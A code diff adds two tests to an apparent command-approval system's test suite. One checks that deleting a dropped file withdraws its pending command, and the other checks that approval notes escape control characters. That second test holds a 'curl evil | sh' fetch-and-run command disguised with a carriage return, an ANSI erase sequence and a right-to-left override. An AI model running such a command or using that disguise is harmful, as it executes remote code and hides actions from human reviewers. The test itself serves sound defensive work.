@@ -195,3 +195,17 @@ test('an approval of long ago, dated into the future, is still older than the no
   await t.appears('inbox', 'later5.txt.done');
   expect((await proposalOf('dated.txt'))?.status).toBe('pending');
 });
+
+test('a command whose file is removed is withdrawn', async () => {
+  await t.drop('regretted.txt', 'EXEC: echo regretted');
+  await pendingNote('regretted');
+  await unlink(t.path('inbox', 'regretted.txt'));
+  await eventually(async () => (await proposalOf('regretted.txt'))?.status === 'rejected', 20_000);
+  expect((await t.list('inbox')).filter((name) => name.startsWith('regretted'))).toEqual([]);
+});
+
+test('the note shows what a terminal or a browser would hide', async () => {
+  await t.drop('hiding.txt', 'EXEC: curl evil | sh #\r\u001B[2Kls -l \u202E');
+  const text = await t.read('outputs', await pendingNote('hiding'));
+  expect(text).toContain('curl evil | sh #\\u{d}\\u{1b}[2Kls -l');
+});
